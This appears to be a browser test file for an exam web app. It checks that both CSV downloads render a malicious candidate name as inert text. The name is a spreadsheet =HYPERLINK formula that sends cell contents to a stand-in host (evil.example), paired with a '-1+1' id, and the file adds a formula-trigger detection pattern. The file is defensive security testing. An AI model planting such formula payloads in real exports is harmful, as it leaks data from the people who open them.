// CSV formula injection (issue #16, point 7): a candidate registers as
// =HYPERLINK("http://evil.example/?q="&A1,"查看成绩") with an id starting with "-" and takes the
// sample exam; both CSV files a trainer downloads (the trainer's list and the per-item results
// from the export view) hold that name as text with a leading apostrophe, never as a formula.
// The writer itself is tested cell by cell in tests/csv_exports.rs; this checks that the page's
// downloads go through it.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { pageRig, watchErrors, waitReady } from './harness.mjs';

const EVIL_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"查看成绩")';
const EVIL_ID = '-1+1';

const rig = pageRig();

/** The cells of CSV text exactly as a spreadsheet receives them (RFC 4180, nothing undone). */
function rawCells(text) {
  assert.equal(text.charCodeAt(0), 0xfeff, 'UTF-8 with BOM');
  const cells = [];
  let cell = '';
  let quoted = false;
  for (let i = 1; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i += 1; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',' || c === '\n') { cells.push(cell); cell = ''; } else if (c !== '\r') cell += c;
  }
  return cells;
}

/** No cell starts a formula: a trigger first is only allowed in a plain number. */
function assertFormulaSafe(cells, label) {
  for (const cell of cells) {
    if (/^[=+\-@\t\r]/.test(cell)) assert.match(cell, /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?%?$/, `${label}: live formula cell ${JSON.stringify(cell)}`);
  }
}

async function download(page, selector) {
  const [file] = await Promise.all([page.waitForEvent('download'), page.locator(selector).click()]);
  return (await readFile(await file.path())).toString('utf8');
}

test('a candidate named =HYPERLINK(…) lands in both CSV downloads as text', async () => {
  const context = await rig.browser.newContext();
  const page = await context.newPage();
  const errors = watchErrors(page);
  await page.goto(rig.url);
  await waitReady(page);
  await page.getByLabel('姓名').fill(EVIL_NAME);
  await page.getByLabel('工号').fill(EVIL_ID);
  await page.getByLabel('选择考试').selectOption({ label: '2026年第四季度客服理论考核' });
  await page.getByRole('button', { name: '开始考试' }).click();
  await page.waitForSelector('fieldset.item');
  await page.locator('fieldset.item input[type=radio]').first().check();
  await page.locator('#submit-exam').click();
  await page.locator('#confirm-yes').click();
  await page.waitForSelector('#result-summary');

  // The trainer's list (培训师 → 导出 CSV) and the per-item results (结果导出 → 下载结果 CSV).
  for (const [route, button] of [['trainer', '#export-results'], ['export', '#export-results-csv']]) {
    await page.goto(`${rig.url}#/${route}`);
    await page.waitForSelector(`${button}:not([disabled])`);
    const cells = rawCells(await download(page, button));
    assertFormulaSafe(cells, route);
    assert.ok(cells.includes(`'${EVIL_NAME}`), `${route}: the name is written with an apostrophe`);
    assert.ok(cells.includes(`'${EVIL_ID}`), `${route}: the id is written with an apostrophe`);
  }

  assert.deepEqual(errors, []);
  await context.close();
});
